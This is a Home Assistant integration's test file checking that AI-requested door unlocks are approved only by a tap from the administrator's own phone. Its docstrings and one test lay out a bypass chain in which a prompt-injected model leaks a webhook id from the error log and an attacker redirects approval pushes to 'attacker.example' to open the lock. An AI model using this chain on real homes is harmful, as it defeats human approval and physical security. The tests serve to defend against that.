"""Approving from a phone: only the tap from the administrator's own companion app decides.

Two companion apps are registered as the apps register, through
`/api/mobile_app/registrations`: an administrator's iPhone and the phone of a
user who is not an administrator. What the push service would be sent is
captured at the push URL (`aioclient_mock`), as `mobile_app`'s own notify
platform posts it. A tap is sent as the app sends it: the webhook's
`fire_event` on that device's webhook id.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
import json
import logging
import re
import secrets
from typing import Any

import pytest
from pytest_homeassistant_custom_component.common import MockConfigEntry, async_fire_time_changed
from pytest_homeassistant_custom_component.test_util.aiohttp import AiohttpClientMocker

from custom_components.home_mcp.approvals.phone import MOBILE_APP, MOBILE_APP_NOTIFY, SECRET_BYTES
from homeassistant.auth.const import GROUP_ID_ADMIN, GROUP_ID_USER
from homeassistant.auth.models import User
from homeassistant.components import webhook
from homeassistant.core import Context, HomeAssistant
from homeassistant.helpers import device_registry as dr
from homeassistant.setup import async_setup_component
from homeassistant.util import dt as dt_util
from homeassistant.util.aiohttp import MockRequest

from .conftest import McpHarness, set_options

UNLOCK = {"domain": "lock", "service": "unlock", "target": {"entity_id": "lock.front_door"}}
PUSH_URL = "https://mobile-push.home-assistant.dev/push"
TAP = "mobile_app_notification_action"
APPROVE_ID = re.compile(rf"HOME_MCP_APPROVE_[0-9a-f]{{{2 * SECRET_BYTES}}}")


def _registration(name: str, device_id: str, *, apple: bool = True) -> dict[str, Any]:
    """Return what a companion app sends to register itself."""
    return {
        "app_data": {"push_token": f"token-{device_id}", "push_url": PUSH_URL},
        "app_id": "io.robbie.HomeAssistant" if apple else "io.homeassistant.companion.android",
        "app_name": "Home Assistant",
        "app_version": "2026.11",
        "device_id": device_id,
        "device_name": name,
        "manufacturer": "Apple" if apple else "Google",
        "model": "iPhone" if apple else "Pixel",
        "os_name": "iOS" if apple else "Android",
        "os_version": "26",
        "supports_encryption": False,
    }


@dataclass
class Phones:
    """The registered companion apps and what was pushed to them."""

    hass: HomeAssistant
    admin_client: Any
    other_client: Any
    admin_webhook: str
    other_webhook: str
    admin_user: User
    pushes: AiohttpClientMocker

    def sent(self, webhook_id: str | None = None) -> list[dict[str, Any]]:
        """Return every push posted, oldest first (to one phone, given its webhook id)."""
        bodies = [call[2] for call in self.pushes.mock_calls if str(call[1]) == PUSH_URL]
        return [
            body
            for body in bodies
            if webhook_id is None or body["registration_info"]["webhook_id"] == webhook_id
        ]

    def requests(self, webhook_id: str | None = None) -> list[dict[str, Any]]:
        """Return the pushes that asked for a decision (not the clearing ones)."""
        return [b for b in self.sent(webhook_id) if b["message"] != "clear_notification"]

    async def tap(self, action: str, webhook_id: str | None = None) -> None:
        """Tap `action` as the companion app sends it: its webhook's `fire_event`."""
        client = (
            self.admin_client if webhook_id in (None, self.admin_webhook) else self.other_client
        )
        response = await client.post(
            f"/api/webhook/{webhook_id or self.admin_webhook}",
            json={
                "type": "fire_event",
                "data": {"event_type": TAP, "event_data": {"action": action}},
            },
        )
        assert response.status == 200
        await self.hass.async_block_till_done()


def _actions(push: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Return a push's actions by title."""
    return {action["title"]: action for action in push["data"]["actions"]}


async def _register(client: Any, registration: dict[str, Any]) -> str:
    response = await client.post("/api/mobile_app/registrations", json=registration)
    assert response.status == 201, await response.text()
    return str((await response.json())["webhook_id"])


@pytest.fixture(autouse=True)
async def companion_app_integration(hass: HomeAssistant) -> None:
    """Set up `mobile_app` (and the REST API) before any test client freezes the router."""
    assert await async_setup_component(hass, "api", {})
    assert await async_setup_component(hass, MOBILE_APP, {})


@pytest.fixture
async def phones(
    mcp: McpHarness,
    hass: HomeAssistant,
    hass_client: Callable[..., Any],
    hass_admin_user: User,
    aioclient_mock: AiohttpClientMocker,
) -> Phones:
    """Register Alice's iPhone (an administrator) and Bob's (not one)."""
    aioclient_mock.post(PUSH_URL, json={})
    admin_client = await hass_client()
    admin_webhook = await _register(admin_client, _registration("Alice iPhone", "alice-iphone"))
    bob = await hass.auth.async_create_user("Bob", group_ids=[GROUP_ID_USER])
    refresh = await hass.auth.async_create_refresh_token(bob, "https://home-assistant.io/iOS")
    other_client = await hass_client(hass.auth.async_create_access_token(refresh))
    other_webhook = await _register(other_client, _registration("Bob iPhone", "bob-iphone"))
    await hass.async_block_till_done()
    return Phones(
        hass,
        admin_client,
        other_client,
        admin_webhook,
        other_webhook,
        hass_admin_user,
        aioclient_mock,
    )


async def _request(mcp: McpHarness, phones: Phones) -> tuple[dict[str, Any], str]:
    """Ask for the guarded unlock; return the refusal and the approve action id pushed."""
    refused = await mcp.data("call_service", UNLOCK)
    assert refused["error"] == "needs_confirmation"
    await phones.hass.async_block_till_done()
    push = phones.requests(phones.admin_webhook)[-1]
    assert push["data"]["tag"] == f"home_mcp_{refused['confirmation_id']}"
    return refused, str(_actions(push)["Approve"]["action"])


def _state(hass: HomeAssistant, confirmation_id: str) -> str:
    entry = hass.config_entries.async_entries("home_mcp")[0]
    confirmation = entry.runtime_data.confirmations.async_get(confirmation_id)
    assert confirmation is not None
    return str(confirmation.state)


async def test_mobile_app_keeps_its_notify_service_where_home_mcp_reads_it(
    phones: Phones, hass: HomeAssistant
) -> None:
    """Contract: `hass.data["mobile_app"]["notify"]` is `mobile_app`'s notification service."""
    from homeassistant.components.mobile_app.notify import MobileAppNotificationService  # noqa: PLC0415

    assert isinstance(hass.data[MOBILE_APP][MOBILE_APP_NOTIFY], MobileAppNotificationService)


async def test_a_guarded_unlock_is_pushed_to_the_administrators_phone_only(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_storage: dict[str, Any],
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    refused, approve = await _request(mcp, phones)
    [push] = phones.requests()
    assert push["registration_info"]["webhook_id"] == phones.admin_webhook
    assert phones.sent(phones.other_webhook) == []
    # The effect first, then who asked, quoted.
    assert push["message"].startswith("Unlock Front Door — asked by “")
    assert push["message"].endswith(" for Mock User")
    actions = _actions(push)
    assert APPROVE_ID.fullmatch(approve)
    assert actions["Approve"]["authenticationRequired"] is True
    assert actions["Deny"]["destructive"] is True
    assert actions["Deny"]["action"].startswith("HOME_MCP_DENY_")
    secret = approve.removeprefix("HOME_MCP_APPROVE_")
    deny_secret = actions["Deny"]["action"].removeprefix("HOME_MCP_DENY_")
    assert secret != deny_secret
    # The secrets are only in the action ids: not in the text, not in what
    # the caller reads, not stored, not audited, not logged.
    without_actions = {**push, "data": {k: v for k, v in push["data"].items() if k != "actions"}}
    status = await mcp.data("get_confirmation", {"confirmation_id": refused["confirmation_id"]})
    entry = hass.config_entries.async_entries("home_mcp")[0]
    await entry.runtime_data.confirmations.async_flush()
    await entry.runtime_data.audit.async_flush()
    for seen in (
        json.dumps(without_actions),
        json.dumps(refused),
        json.dumps(status),
        json.dumps(hass_storage, default=str),
        json.dumps(entry.runtime_data.audit.async_tail()),
        caplog.text,
    ):
        assert secret not in seen
        assert deny_secret not in seen
    assert hass.states.get("lock.front_door").state == "locked"


async def test_an_android_phone_s_approve_opens_the_approval_page(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    """Android cannot ask for the phone's unlock: Approve opens the page, the login session decides."""
    webhook = await _register(
        phones.admin_client, _registration("Alice Pixel", "alice-pixel", apple=False)
    )
    await hass.async_block_till_done()
    refused = await mcp.data("call_service", UNLOCK)
    await hass.async_block_till_done()
    [push] = phones.requests(webhook)
    page = f"/home-mcp/confirmation/{refused['confirmation_id']}"
    assert _actions(push)["Approve"] == {"action": "URI", "title": "Approve", "uri": page}
    assert push["data"]["clickAction"] == page


async def test_the_tap_through_the_phone_s_webhook_approves_and_unlocks_once(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    refused, approve = await _request(mcp, phones)
    await phones.tap(approve)
    assert hass.states.get("lock.front_door").state == "unlocked"
    assert _state(hass, refused["confirmation_id"]) == "approved"
    # Every phone it went to is cleared, by the request's tag.
    [clear] = [p for p in phones.sent() if p["message"] == "clear_notification"]
    assert clear["data"] == {"tag": f"home_mcp_{refused['confirmation_id']}"}
    # The audit names the phone that approved.
    entry = hass.config_entries.async_entries("home_mcp")[0]
    [decision] = [e for e in entry.runtime_data.audit.async_tail() if e["kind"] == "decision"]
    assert decision["decision"] == "approved"
    assert decision["device"] == "Alice iPhone"
    # A second tap of the same action decides nothing more.
    await hass.services.async_call("lock", "lock", {"entity_id": "lock.front_door"}, blocking=True)
    await phones.tap(approve)
    assert hass.states.get("lock.front_door").state == "locked"


async def test_deny_from_the_phone_denies(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    refused, _approve = await _request(mcp, phones)
    deny = _actions(phones.requests(phones.admin_webhook)[-1])["Deny"]["action"]
    await phones.tap(deny)
    assert _state(hass, refused["confirmation_id"]) == "denied"
    assert hass.states.get("lock.front_door").state == "locked"


async def _fire_by_rest(phones: Phones, action: str) -> None:
    response = await phones.admin_client.post(f"/api/events/{TAP}", json={"action": action})
    assert response.status == 200


async def _fire_by_websocket(phones: Phones, action: str, ws: Any) -> None:
    await ws.send_json_auto_id(
        {"type": "fire_event", "event_type": TAP, "event_data": {"action": action}}
    )
    assert (await ws.receive_json())["success"]


async def _fire_on_the_bus(phones: Phones, action: str) -> None:
    """As a script's or an automation's `event` action fires it, as the administrator."""
    phones.hass.bus.async_fire(
        TAP, {"action": action}, context=Context(user_id=phones.admin_user.id)
    )


async def _fire_from_the_other_phone(phones: Phones, action: str) -> None:
    await phones.tap(action, phones.other_webhook)


@pytest.mark.parametrize(
    "forgery", ["rest", "websocket", "bus", "other_phone", "script", "mcp", "after_expiry"]
)
async def test_the_right_secret_any_other_way_approves_nothing(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_ws_client: Callable[..., Any],
    forgery: str,
) -> None:
    """Even holding the secret, no way but the phone's own webhook decides; the secret is spent."""
    assert await async_setup_component(hass, "input_text", {"input_text": {"relay": {"max": 255}}})
    assert await async_setup_component(
        hass,
        "automation",
        {
            "automation": [
                {
                    "alias": "Relay a tap",
                    "triggers": [{"trigger": "event", "event_type": "relay_tap"}],
                    "actions": [
                        {"event": TAP, "event_data": {"action": "{{ trigger.event.data.action }}"}}
                    ],
                },
                {
                    "alias": "Relay a text",
                    "triggers": [{"trigger": "state", "entity_id": "input_text.relay"}],
                    "actions": [
                        {"event": TAP, "event_data": {"action": "{{ trigger.to_state.state }}"}}
                    ],
                },
            ]
        },
    )
    ws = await hass_ws_client()
    refused, approve = await _request(mcp, phones)
    if forgery == "rest":
        await _fire_by_rest(phones, approve)
    elif forgery == "websocket":
        await _fire_by_websocket(phones, approve, ws)
    elif forgery == "bus":
        await _fire_on_the_bus(phones, approve)
    elif forgery == "other_phone":
        await _fire_from_the_other_phone(phones, approve)
    elif forgery == "mcp":
        # An MCP client that knew the secret sets a text an automation fires as the tap.
        answer = await mcp.data(
            "call_service",
            {
                "domain": "input_text",
                "service": "set_value",
                "target": {"entity_id": "input_text.relay"},
                "data": {"value": approve},
            },
        )
        # The gate judges it first: a value that reads as Home MCP's own action
        # waits for a person, so the automation never fires it.
        assert answer["error"] == "needs_confirmation", answer
        assert answer["confirmation_id"] != refused["confirmation_id"]
        await hass.async_block_till_done()
        assert approve not in hass.states.get("input_text.relay").state
        assert hass.states.get("lock.front_door").state == "locked"
        assert _state(hass, refused["confirmation_id"]) == "pending"
        return
    elif forgery == "script":
        # An automation that fires the tap, set off by the administrator over REST.
        response = await phones.admin_client.post("/api/events/relay_tap", json={"action": approve})
        assert response.status == 200
    else:
        async_fire_time_changed(hass, dt_util.utcnow() + timedelta(minutes=11))
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "locked"
    expected = "expired" if forgery == "after_expiry" else "pending"
    assert _state(hass, refused["confirmation_id"]) == expected
    # The secret was spent by the forgery: the real tap no longer decides either.
    await phones.tap(approve)
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == expected


async def test_a_guessed_secret_approves_nothing_and_spends_nothing(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    refused, approve = await _request(mcp, phones)
    for guess in (
        f"HOME_MCP_APPROVE_{secrets.token_hex(SECRET_BYTES)}",
        approve[:-1] + ("0" if approve[-1] != "0" else "1"),
        "HOME_MCP_APPROVE_",
        "HOME_MCP_APPROVE",
        f"HOME_MCP_APPROVE_{refused['confirmation_id']}",
    ):
        await phones.tap(guess)
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"
    await phones.tap(approve)
    assert hass.states.get("lock.front_door").state == "unlocked"


async def test_the_non_administrator_s_phone_is_never_pushed_even_when_chosen(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant, home_mcp: MockConfigEntry
) -> None:
    [bob] = [
        device
        for device in dr.async_get(hass).devices
        if (MOBILE_APP, "bob-iphone") in device.identifiers
    ]
    await set_options(hass, home_mcp, approval_devices=[bob.id])
    await mcp.data("call_service", UNLOCK)
    await hass.async_block_till_done()
    assert phones.requests() == []


async def test_a_decision_in_the_panel_clears_the_phone(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_ws_client: Callable[..., Any],
) -> None:
    refused, approve = await _request(mcp, phones)
    refresh = await hass.auth.async_create_refresh_token(
        phones.admin_user, "https://home-assistant.io/iOS"
    )
    ws = await hass_ws_client(access_token=hass.auth.async_create_access_token(refresh))
    await ws.send_json_auto_id(
        {
            "type": "home_mcp/confirmation/decide",
            "confirmation_id": refused["confirmation_id"],
            "decision": "deny",
        }
    )
    assert (await ws.receive_json())["success"]
    await hass.async_block_till_done()
    [clear] = [p for p in phones.sent() if p["message"] == "clear_notification"]
    assert clear["data"]["tag"] == f"home_mcp_{refused['confirmation_id']}"
    await phones.tap(approve)
    assert hass.states.get("lock.front_door").state == "locked"


def _tap_body(action: str) -> bytes:
    return json.dumps(
        {"type": "fire_event", "data": {"event_type": TAP, "event_data": {"action": action}}}
    ).encode()


async def _give_a_cloudhook(hass: HomeAssistant, webhook_id: str) -> None:
    """Mark a registration as made with Home Assistant Cloud (as `mobile_app` keeps it)."""
    [entry] = [
        e
        for e in hass.config_entries.async_entries(MOBILE_APP)
        if e.data["webhook_id"] == webhook_id
    ]
    hass.config_entries.async_update_entry(
        entry, data={**entry.data, "cloudhook_url": "https://hooks.nabu.casa/abc"}
    )
    await hass.async_block_till_done()


async def test_a_tap_through_home_assistant_cloud_approves_a_phone_with_a_cloudhook(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    """Cloud hands the webhook over from its own connection: no HTTP request is being served."""
    await _give_a_cloudhook(hass, phones.admin_webhook)
    _refused, approve = await _request(mcp, phones)
    request = MockRequest(content=_tap_body(approve), mock_source="cloud", method="POST")
    await webhook.async_handle_webhook(hass, phones.admin_webhook, request)  # type: ignore[arg-type]
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "unlocked"


async def test_a_tap_without_a_webhook_request_decides_nothing_for_a_phone_without_a_cloudhook(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    refused, approve = await _request(mcp, phones)
    request = MockRequest(content=_tap_body(approve), mock_source="cloud", method="POST")
    await webhook.async_handle_webhook(hass, phones.admin_webhook, request)  # type: ignore[arg-type]
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"


@pytest.mark.parametrize("forgery", ["rest", "websocket"])
async def test_a_cloudhook_phone_s_secret_fired_over_the_api_approves_nothing(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_ws_client: Callable[..., Any],
    forgery: str,
) -> None:
    """A cloudhook admits a tap with no HTTP request; the REST and websocket APIs have one."""
    await _give_a_cloudhook(hass, phones.admin_webhook)
    ws = await hass_ws_client()
    refused, approve = await _request(mcp, phones)
    if forgery == "rest":
        await _fire_by_rest(phones, approve)
    else:
        await _fire_by_websocket(phones, approve, ws)
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"


async def test_another_administrator_s_phone_cannot_use_this_phone_s_secret(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_client: Callable[..., Any],
) -> None:
    carol = await hass.auth.async_create_user("Carol", group_ids=[GROUP_ID_ADMIN])
    refresh = await hass.auth.async_create_refresh_token(carol, "https://home-assistant.io/iOS")
    carol_client = await hass_client(hass.auth.async_create_access_token(refresh))
    carol_webhook = await _register(carol_client, _registration("Carol iPhone", "carol-iphone"))
    await hass.async_block_till_done()
    refused, approve = await _request(mcp, phones)
    # Carol's phone got its own push, with its own secrets.
    [carol_push] = phones.requests(carol_webhook)
    assert _actions(carol_push)["Approve"]["action"] != approve
    response = await carol_client.post(
        f"/api/webhook/{carol_webhook}",
        json={"type": "fire_event", "data": {"event_type": TAP, "event_data": {"action": approve}}},
    )
    assert response.status == 200
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"
    # Carol's own tap, through her own phone, approves.
    response = await carol_client.post(
        f"/api/webhook/{carol_webhook}",
        json={
            "type": "fire_event",
            "data": {
                "event_type": TAP,
                "event_data": {"action": _actions(carol_push)["Approve"]["action"]},
            },
        },
    )
    await hass.async_block_till_done()
    assert hass.states.get("lock.front_door").state == "unlocked"


async def test_a_phone_registered_under_the_administrator_s_device_id_gets_nothing(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    """What a registration says of its device proves nothing: its user and its webhook do.

    Bob registers a phone under the id of Alice's after Alice's got a
    request: Home Assistant replaces her registration with his. His phone
    gets no push, and the secret Alice's phone got decides nothing from his.
    """
    refused, approve = await _request(mcp, phones)
    twin = await _register(phones.other_client, _registration("Alice iPhone", "alice-iphone"))
    await hass.async_block_till_done()
    await phones.tap(approve, twin)
    assert hass.states.get("lock.front_door").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"
    await mcp.data("call_service", {**UNLOCK, "target": {"entity_id": "lock.openable_lock"}})
    await hass.async_block_till_done()
    assert phones.sent(twin) == []


async def test_a_local_push_phone_s_webhook_id_is_never_written_to_the_error_log(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A webhook id is a bearer secret: whoever holds it acts as the phone's user.

    Path: a companion app registered for local push only (`app_data`:
    `push_websocket_channel`, no `push_url`, as the Android minimal app and
    an iPhone on the home Wi-Fi register) is away from home, so its push
    channel is not connected. `phone._async_push` -> `_async_send` ->
    `MobileAppNotificationService.async_send_message` raises
    `HomeAssistantError("Device(s) with webhook id(s) <id> not connected to
    local push notifications")`, and `_async_send` logs `str(err)` at warning
    level. The `system_log` keeps it; an MCP caller with the administrator's
    own credential reads it with `get_error_log`; with the webhook id,
    anyone who can reach `/api/webhook/<id>` (no login) calls any service as
    the administrator (`call_service` webhook command: unlock the door
    without any approval) or fires the tap with the right path and user,
    or re-points the phone's `push_url` (`update_registration`) to receive
    every later push, secrets included.
    """
    assert await async_setup_component(hass, "system_log", {})
    caplog.set_level(logging.WARNING)
    registration = _registration("Alice Pixel", "alice-pixel", apple=False)
    registration["app_data"] = {"push_websocket_channel": True}
    webhook_id = await _register(phones.admin_client, registration)
    await hass.async_block_till_done()
    refused = await mcp.data("call_service", UNLOCK)
    assert refused["error"] == "needs_confirmation"
    await hass.async_block_till_done()
    log = await mcp.data("get_error_log", {"text": "could not reach"})
    assert webhook_id not in json.dumps(log), log
    assert webhook_id not in caplog.text


ANNOUNCE = {
    "id": "announce_requests",
    "alias": "Announce Home MCP requests",
    "triggers": [{"trigger": "state", "entity_id": "event.home_mcp_approval_requests"}],
    "conditions": [
        {
            "condition": "state",
            "entity_id": "event.home_mcp_approval_requests",
            "attribute": "event_type",
            "state": "requested",
        }
    ],
    "actions": [
        {
            "action": "persistent_notification.create",
            "data": {
                "message": "Home MCP asks to {{ trigger.to_state.attributes.effect }} "
                "for {{ trigger.to_state.attributes.asked_by }} "
                "({{ trigger.to_state.attributes.client }}). Approve it on your phone."
            },
        }
    ],
}
"""docs/approvals.md's "Announce it on a speaker", on a service every house has."""


async def test_a_config_key_cannot_read_a_request_s_effect_through_the_trace_of_the_docs_automation(
    mcp: McpHarness, hass: HomeAssistant, home_mcp: MockConfigEntry
) -> None:
    """Home MCP's own entities are left out of every MCP read, like the audit: get_trace too.

    Path: the owner adds the docs' automation on
    `event.home_mcp_approval_requests` (docs/approvals.md, "Announce it on a
    speaker"). Another credential's request fires it. Home Assistant's
    trace keeps the run: the trigger's `to_state` (hidden by `get_trace`'s
    `_compact`, which names it UNSEEN) and the action's rendered
    `service_data` (`result.params`), which carries the entity's
    attributes verbatim: the effect, who asked and the client. A `config`
    key (an automation builder, not the requester) reads it with
    `get_trace`: the pending request of someone else, its effect and
    requester, which `exposure.async_own_entities` meant to keep from every
    MCP caller.
    """
    assert await async_setup_component(hass, "automation", {"automation": [ANNOUNCE]})
    await hass.async_block_till_done()
    refused = await mcp.data("call_service", UNLOCK)
    assert refused["error"] == "needs_confirmation"
    await hass.async_block_till_done()
    _, builder = await home_mcp.runtime_data.keys.async_create("Automation builder", "config")
    async with mcp.client(token=builder) as client:
        listed = await client.call_tool(
            "get_trace", {"entity_id": "automation.announce_home_mcp_requests"}
        )
        assert listed.structured_content is not None, listed
        [run] = listed.structured_content["items"]
        steps = await client.call_tool(
            "get_trace",
            {"entity_id": "automation.announce_home_mcp_requests", "run_id": run["run_id"]},
        )
    seen = json.dumps(steps.structured_content)
    assert "unlock Front Door" not in seen and "Mock User" not in seen, seen


ATTACKER_URL = "https://attacker.example/push"


async def test_a_pending_request_is_not_approved_by_whoever_reads_the_error_log(
    mcp: McpHarness,
    phones: Phones,
    hass: HomeAssistant,
    hass_client_no_auth: Callable[..., Any],
) -> None:
    """The whole way from the logged webhook id to an approval no person gave.

    Path (after the first test's leak): the prompt-injected model, on the
    administrator's own MCP credential, reads the webhook id with
    `get_error_log` and hands it out. Anyone on the network (no login:
    `/api/webhook/<id>` is unauthenticated) sends that webhook's
    `update_registration` with `app_data.push_url` of their own and
    `manufacturer: "Apple"` (`async_phones` then sets `apple`, so the push
    carries the Approve secret). The next guarded request is pushed to them
    (`_async_push`: the registration's user is still the administrator);
    they fire the Approve action through that same webhook: origin REMOTE,
    the administrator's context, the phone's own webhook path: the lock opens.
    """
    import re  # noqa: PLC0415

    assert await async_setup_component(hass, "system_log", {})
    registration = _registration("Alice Pixel", "alice-pixel", apple=False)
    registration["app_data"] = {"push_websocket_channel": True}
    await _register(phones.admin_client, registration)
    await hass.async_block_till_done()
    await mcp.data("call_service", UNLOCK)
    await hass.async_block_till_done()
    log = json.dumps(await mcp.data("get_error_log", {"text": "webhook id"}))
    leaked = re.findall(r"\b[0-9a-f]{64}\b", log)
    if not leaked:
        return  # Nothing to go on: the way is closed.
    stranger = await hass_client_no_auth()
    phones.pushes.post(ATTACKER_URL, json={})
    response = await stranger.post(
        f"/api/webhook/{leaked[0]}",
        json={
            "type": "update_registration",
            "data": {
                "app_data": {"push_url": ATTACKER_URL, "push_token": "stolen"},
                "app_version": "2026.11",
                "device_name": "Alice Pixel",
                "manufacturer": "Apple",
                "model": "Pixel",
                "os_version": "16",
            },
        },
    )
    assert response.status == 200
    await hass.async_block_till_done()
    target = {**UNLOCK, "target": {"entity_id": "lock.openable_lock"}}
    refused = await mcp.data("call_service", target)
    assert refused["error"] == "needs_confirmation"
    await hass.async_block_till_done()
    stolen = [
        call[2]
        for call in phones.pushes.mock_calls
        if str(call[1]) == ATTACKER_URL and call[2]["message"] != "clear_notification"
    ]
    approve = _actions(stolen[-1])["Approve"]["action"]
    response = await stranger.post(
        f"/api/webhook/{leaked[0]}",
        json={"type": "fire_event", "data": {"event_type": TAP, "event_data": {"action": approve}}},
    )
    assert response.status == 200
    await hass.async_block_till_done()
    assert hass.states.get("lock.openable_lock").state == "locked"
    assert _state(hass, refused["confirmation_id"]) == "pending"


async def test_the_error_log_never_shows_a_phone_s_webhook_id_whoever_logged_it(
    mcp: McpHarness, phones: Phones, hass: HomeAssistant
) -> None:
    """A registered phone's webhook id, logged by any integration, is hidden in `get_error_log`.

    It acts as the phone's user without a login; not shown, and not found a
    letter at a time through the `text` filter either.
    """
    assert await async_setup_component(hass, "system_log", {})
    webhook_id = await _register(phones.admin_client, _registration("Alice", "alice-phone"))
    logging.getLogger("homeassistant.components.somewhere").warning(
        "Could not deliver to webhook %s", webhook_id
    )
    await hass.async_block_till_done()
    shown = await mcp.data("get_error_log", {"text": "could not deliver"})
    assert shown["items"], shown
    assert webhook_id not in json.dumps(shown)
    assert "<a phone's webhook>" in shown["items"][0]["message"]
    probed = await mcp.data("get_error_log", {"text": webhook_id[:12]})
    assert probed["items"] == [], probed
